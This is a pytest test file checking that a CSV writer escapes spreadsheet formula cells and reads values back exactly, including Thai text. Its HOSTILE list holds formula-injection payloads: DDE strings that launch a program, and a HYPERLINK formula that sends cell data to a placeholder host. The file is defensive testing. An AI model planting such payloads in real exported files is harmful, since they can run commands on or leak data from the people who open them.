"""The one CSV writer: cells a spreadsheet would take for a formula are escaped, and read back exactly."""

import io

import pytest

from phrom.core import tabular

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"คลิก")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_written_as_text(value):
    assert tabular.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["กรมการปกครอง", "13.764800", "a=b", "", None, 21])
def test_plain_values_are_written_as_they_are(value):
    assert tabular.cell(value) == ("" if value is None else str(value))


@pytest.mark.parametrize("value", [*HOSTILE, "'", "'=x", "''", "'quoted", "plain", "", "หน่วย, \"มีจุลภาค\"\nบรรทัด 2"])
def test_every_value_reads_back_as_it_was(value):
    out = io.StringIO(newline="")
    tabular.write_csv(out, ["value"], [[value]])
    assert tabular.read_csv(out.getvalue()) == [["value"], [value]]


def test_an_apostrophe_typed_before_a_letter_is_kept():
    assert tabular.unescape("'สวัสดี") == "'สวัสดี"


def test_csv_bytes_have_a_byte_order_mark():
    data = tabular.csv_bytes(["a"], [["=1"]])
    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8-sig").splitlines() == ["a", "'=1"]
